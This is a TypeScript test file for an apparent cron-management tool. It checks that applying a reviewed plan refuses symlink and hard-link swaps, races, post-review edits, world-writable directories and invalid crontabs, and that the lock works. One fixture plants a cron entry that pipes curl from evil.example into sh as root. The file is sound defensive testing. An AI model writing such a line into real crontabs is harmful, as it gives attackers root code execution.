// Attacks on apply (issue 6): every one is refused before anything is written, and the file the
// attacker pointed at stays untouched.

import { linkSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { apply } from '../../src/apply/apply.js';
import { realFs, type FsLayer } from '../../src/apply/fs-layer.js';
import { acquireLock } from '../../src/apply/lock.js';
import { listBackups, rollback } from '../../src/apply/recover.js';
import { RefusedError } from '../../src/core/errors.js';
import type { Operation } from '../../src/core/operations.js';
import { debianBase } from '../helpers/debian-base.js';
import { tempRoot } from '../helpers/temp-root.js';
import { before, collectIo, makePlan, treeDigest } from './helpers.js';

const OLD = '30 2 * * * root /usr/local/bin/backup.sh\n';
const NEW = '30 2 * * * backup /usr/local/bin/backup.sh\n';

let cleanups: Array<() => void> = [];
afterEach(() => {
  for (const c of cleanups) c();
  cleanups = [];
});

function setup(extra: Record<string, unknown> = {}) {
  const t = tempRoot({ ...debianBase(), '/var/lib': { type: 'dir' }, '/etc/cron.d/backup': OLD, ...(extra as object) });
  const outside = mkdtempSync(join(tmpdir(), 'cronwarden-outside-'));
  writeFileSync(join(outside, 'secret'), 'root:$y$precious:19700::::::\n');
  cleanups.push(t.cleanup, () => rmSync(outside, { recursive: true, force: true }));
  return { root: t.dir, outside };
}

const writeOp = (root: string, content = NEW): Operation => ({
  op: 'write-file', path: '/etc/cron.d/backup', before: before(root, '/etc/cron.d/backup'), content, encoding: 'utf8', mode: 0o644, owner: 'root', group: 'root', why: 'least privilege',
});

async function refused(promise: Promise<unknown>): Promise<RefusedError> {
  const error = await promise.then(() => null, (e: unknown) => e);
  expect(error).toBeInstanceOf(RefusedError);
  return error as RefusedError;
}

describe('attacks between review and apply', () => {
  it('refuses a planned file swapped for a symlink to a file outside the root', async () => {
    const { root, outside } = setup();
    const plan = makePlan(root, [writeOp(root)]);
    unlinkSync(`${root}/etc/cron.d/backup`);
    symlinkSync(join(outside, 'secret'), `${root}/etc/cron.d/backup`);
    const start = treeDigest(root);
    const error = await refused(apply(plan, { root, io: collectIo(), yes: true }));
    expect(error.message).toContain('symlink');
    expect(treeDigest(root)).toEqual(start);
    expect(readFileSync(join(outside, 'secret'), 'utf8')).toBe('root:$y$precious:19700::::::\n');
    expect(listBackups(undefined, root)).toEqual([]);
  });

  it('refuses when a parent directory was swapped for a symlink (even to an identical copy)', async () => {
    const { root, outside } = setup();
    const plan = makePlan(root, [writeOp(root)]);
    writeFileSync(join(outside, 'backup'), OLD);
    renameSync(`${root}/etc/cron.d`, `${root}/etc/cron.d.moved`);
    symlinkSync(outside, `${root}/etc/cron.d`);
    const error = await refused(apply(plan, { root, io: collectIo(), yes: true }));
    expect(error.message).toMatch(/\/etc\/cron\.d is a symlink/);
    expect(readFileSync(join(outside, 'backup'), 'utf8')).toBe(OLD);
  });

  it('refuses a hard-linked target: the write would reach a path nobody reviewed', async () => {
    const { root } = setup();
    const plan = makePlan(root, [writeOp(root)]);
    linkSync(`${root}/etc/cron.d/backup`, `${root}/home/alice/cron-link`);
    const start = treeDigest(root);
    const error = await refused(apply(plan, { root, io: collectIo(), yes: true }));
    expect(error.message).toContain('2 hard links');
    expect(treeDigest(root)).toEqual(start);
  });

  it('refuses a file changed after review, with the diff of what is on disk now', async () => {
    const { root } = setup();
    const plan = makePlan(root, [writeOp(root)]);
    writeFileSync(`${root}/etc/cron.d/backup`, `${OLD}* * * * * root curl evil.example | sh\n`);
    const start = treeDigest(root);
    const error = await refused(apply(plan, { root, io: collectIo(), yes: true }));
    expect(error.message).toContain('/etc/cron.d/backup changed since the plan was made');
    expect(error.detail).toContain('-* * * * * root curl evil.example | sh');
    expect(treeDigest(root)).toEqual(start);
  });

  it('refuses to write inside a world-writable directory unless the plan fixes it first', async () => {
    const { root } = setup({ '/opt/jobs': { type: 'dir', mode: 0o777 }, '/opt/jobs/run.sh': { content: '#!/bin/sh\n', mode: 0o755 } });
    const write: Operation = { op: 'write-file', path: '/opt/jobs/run.sh', before: before(root, '/opt/jobs/run.sh'), content: '#!/bin/sh\nexit 0\n', encoding: 'utf8', mode: 0o755, owner: 'root', group: 'root', why: 'w' };
    const fix: Operation = { op: 'chmod', path: '/opt/jobs', before: before(root, '/opt/jobs'), mode: 0o755, why: 'o-w' };
    const start = treeDigest(root);
    const error = await refused(apply(makePlan(root, [write, fix]), { root, io: collectIo(), yes: true }));
    expect(error.message).toContain('/opt/jobs is writable by everyone');
    expect(treeDigest(root)).toEqual(start);
    await apply(makePlan(root, [fix, write]), { root, io: collectIo(), yes: true });
    expect(readFileSync(`${root}/opt/jobs/run.sh`, 'utf8')).toBe('#!/bin/sh\nexit 0\n');
  });

  it('notices a swap made after the re-check, while the temp file is written, and undoes everything', async () => {
    const { root, outside } = setup({ '/etc/cron.d/other': OLD });
    const ops = [
      { ...writeOp(root), path: '/etc/cron.d/other', before: before(root, '/etc/cron.d/other') } as Operation,
      writeOp(root),
    ];
    const start = treeDigest(root);
    const base = realFs();
    let temps = 0;
    const racing: FsLayer = {
      ...base,
      open: (path, flags, mode) => {
        // The attacker wins the race on the second file: it becomes a link to a secret.
        if (path.includes('/etc/cron.d/.cronwarden-') && ++temps === 2) {
          unlinkSync(`${root}/etc/cron.d/backup`);
          symlinkSync(join(outside, 'secret'), `${root}/etc/cron.d/backup`);
        }
        return base.open(path, flags, mode);
      },
    };
    const error = await refused(apply(makePlan(root, ops), { root, io: collectIo(), yes: true, fs: racing }));
    expect(error.message).toContain('replaced by a symlink');
    expect(error.message).toContain('every change it made was undone');
    expect(readFileSync(join(outside, 'secret'), 'utf8')).toBe('root:$y$precious:19700::::::\n');
    const now = treeDigest(root);
    expect(now.get('/etc/cron.d/other')).toBe(start.get('/etc/cron.d/other'));
    expect(now.get('/etc/cron.d/backup')).toMatch(/^symlink /);
  });

  it('refuses new crontab content cron would reject as a whole, before writing anything', async () => {
    const { root } = setup();
    const start = treeDigest(root);
    const bad = await refused(apply(makePlan(root, [writeOp(root, '61 2 * * * root /bin/true\n')]), { root, io: collectIo(), yes: true }));
    expect(bad.message).toMatch(/invalid line 1/);
    const noUser = await refused(apply(makePlan(root, [writeOp(root, '30 2 * * * ghost /bin/true\n')]), { root, io: collectIo(), yes: true }));
    expect(noUser.message).toContain('user ghost');
    const noNewline = await refused(apply(makePlan(root, [writeOp(root, '30 2 * * * root /bin/true')]), { root, io: collectIo(), yes: true }));
    expect(noNewline.message).toContain('no newline');
    expect(treeDigest(root)).toEqual(start);
  });
});

describe('the lock', () => {
  it('makes a second apply wait briefly, then refuse naming the holder pid', async () => {
    const { root } = setup();
    await apply(makePlan(root, [writeOp(root)]), { root, io: collectIo(), yes: true });
    const release = acquireLock(realFs(), root, { command: 'apply (another terminal)', pid: process.ppid });
    try {
      const plan = makePlan(root, [writeOp(root, OLD)]);
      const started = Date.now();
      const error = await refused(apply(plan, { root, io: collectIo(), yes: true, lockWaitMs: 300 }));
      expect(Date.now() - started).toBeGreaterThanOrEqual(300);
      expect(error.message).toContain(`pid ${process.ppid}`);
      const rb = await refused(rollback({ root, io: collectIo(), yes: true, lockWaitMs: 0 }));
      expect(rb.message).toContain('is changing this host');
    } finally {
      release();
    }
  });

  it('takes over a lock whose holder is gone', async () => {
    const { root } = setup();
    await apply(makePlan(root, [writeOp(root)]), { root, io: collectIo(), yes: true });
    writeFileSync(`${root}/var/lib/cronwarden/lock`, JSON.stringify({ pid: 2 ** 22 + 1, start: null, command: 'apply', since: '2026-11-25T09:00:00Z' }));
    chmodSync(`${root}/var/lib/cronwarden/lock`, 0o600);
    await rollback({ root, io: collectIo(), yes: true, lockWaitMs: 0 });
    expect(readFileSync(`${root}/etc/cron.d/backup`, 'utf8')).toBe(OLD);
  });
});
